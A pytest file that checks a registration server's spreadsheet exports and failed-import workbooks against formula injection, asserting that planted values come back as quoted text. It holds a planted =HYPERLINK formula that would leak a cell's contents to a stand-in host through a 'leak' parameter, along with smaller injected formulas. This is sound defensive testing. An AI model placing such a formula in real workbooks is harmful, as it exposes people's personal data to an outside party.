"""Text a stranger typed never becomes a live formula in a workbook the server writes: a
name planted through public registration is exported as text, and so is a failed import
row handed back to the admin."""

from __future__ import annotations

import io
from typing import Any

from openpyxl import Workbook, load_workbook
from openpyxl.cell import Cell

from tests.conftest import LiveServer
from tests.fixtures.tree import make_id_number
from tests.fixtures.workbooks import PEOPLE

PLANTED = '=HYPERLINK("http://x.invalid/?leak="&B2,"详情")'
REGISTER = """mutation($i: ProfessionalRegisterInput!) { professionalRegister(input: $i) {
    ok errors { code field } } }"""
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
QUEUE = """query($k: ReviewKind!) { reviewSteps(kind: $k, first: 10) { edges { node { id } } } }"""
DECIDE = """mutation($k: ReviewKind!, $id: ID!) {
    reviewDecide(input: {kind: $k, ids: [$id], approve: true}) { errors { code } } }"""


def registration(tree: Any, name: str) -> dict[str, Any]:
    number = make_id_number("370102", "19930303", 717)
    return {
        "account": {"idNumber": number, "name": name, "password": "Reg-pass-2026",
                    "phone": "13812345678", "email": "reg@example.cn"},
        "organisationId": str(tree.ids["hospital1"]), "nativePlace": PLANTED,
        "ethnicity": "汉族", "education": "BACHELOR", "school": "-1+1", "major": "@SUM(1)",
        "graduationDate": "2015-07-01", "degree": "BACHELOR", "postdoctoral": False,
        "titleSeries": "卫生技术", "titleSpecialty": "内科", "titleQualification": "主治医师",
        "titleGrade": "INTERMEDIATE",
    }  # fmt: skip


def planted_cells(content: bytes) -> list[Cell]:
    sheet = load_workbook(io.BytesIO(content)).active
    assert sheet is not None
    return [
        cell
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@"))
    ]


def assert_text(cells: list[Cell]) -> None:
    assert cells, "the planted text is in the workbook"
    for cell in cells:
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        assert cell.quotePrefix, (cell.coordinate, cell.value)


async def test_a_planted_name_is_exported_as_text(
    live: LiveServer, tree: Any, tokens: dict[str, str]
) -> None:
    body = await live.data(REGISTER, {"i": registration(tree, "=1+1")})
    assert body["professionalRegister"]["errors"] == []
    # the person list holds members only (issue 16): the unit approves the registration
    queue = await live.data(QUEUE, {"k": "PROFESSIONAL_REGISTRATION"}, tokens["hospital1"])
    step = next(e["node"]["id"] for e in queue["reviewSteps"]["edges"])
    decided = await live.data(
        DECIDE, {"k": "PROFESSIONAL_REGISTRATION", "id": step}, tokens["hospital1"]
    )
    assert decided["reviewDecide"]["errors"] == []
    headers = {"Authorization": f"Bearer {tokens['jinan']}"}
    response = await live.client.get("/exports/persons.xlsx", headers=headers)
    assert response.status_code == 200
    cells = planted_cells(response.content)
    assert "=1+1" in [c.value for c in cells]
    assert_text(cells)


async def test_a_failed_import_row_comes_back_as_text(
    live: LiveServer, tree: Any, tokens: dict[str, str]
) -> None:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(list(PEOPLE))
    sheet.append([PLANTED, "not-an-id", None, "+8613800000000"])
    for cell in sheet[2]:
        cell.data_type = "s" if isinstance(cell.value, str) else cell.data_type
    buffer = io.BytesIO()
    book.save(buffer)
    response = await live.client.post(
        "/imports/professionals/failed.xlsx",
        files={"file": ("导入.xlsx", buffer.getvalue(), XLSX)},
        headers={"Authorization": f"Bearer {tokens['hospital1']}"},
    )
    assert response.status_code == 200, response.text
    cells = planted_cells(response.content)
    assert PLANTED in [c.value for c in cells]
    assert_text(cells)
